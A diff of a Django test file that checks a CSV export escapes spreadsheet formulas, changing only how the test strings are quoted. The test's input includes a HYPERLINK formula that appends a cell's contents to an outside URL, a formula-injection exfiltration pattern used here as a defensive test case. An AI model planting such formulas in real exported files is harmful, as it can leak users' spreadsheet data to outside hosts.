@@ -94,11 +94,11 @@ def test_the_report_flags_each_problem_and_exports_it_as_csv(admin_client, flagg
 
 @pytest.mark.django_db
 def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(admin_client, programme):
-    trap = figure("trap", "=HYPERLINK(\"https://example.org/?\"&A2,\"ok\")", label="+SUM(A1:A9)")
+    trap = figure("trap", '=HYPERLINK("https://example.org/?"&A2,"ok")', label="+SUM(A1:A9)")
     store_figures(programme, [trap])
     found = [row for row in rows(admin_client.get(URL, {"export": "csv"})) if "SUM" in row["Che cosa misura"]]
     assert [(row["Dato"], row["Che cosa misura"]) for row in found] == [
-        ("'=HYPERLINK(\"https://example.org/?\"&A2,\"ok\")", "'+SUM(A1:A9)")
+        ('\'=HYPERLINK("https://example.org/?"&A2,"ok")', "'+SUM(A1:A9)")
     ]
 
 
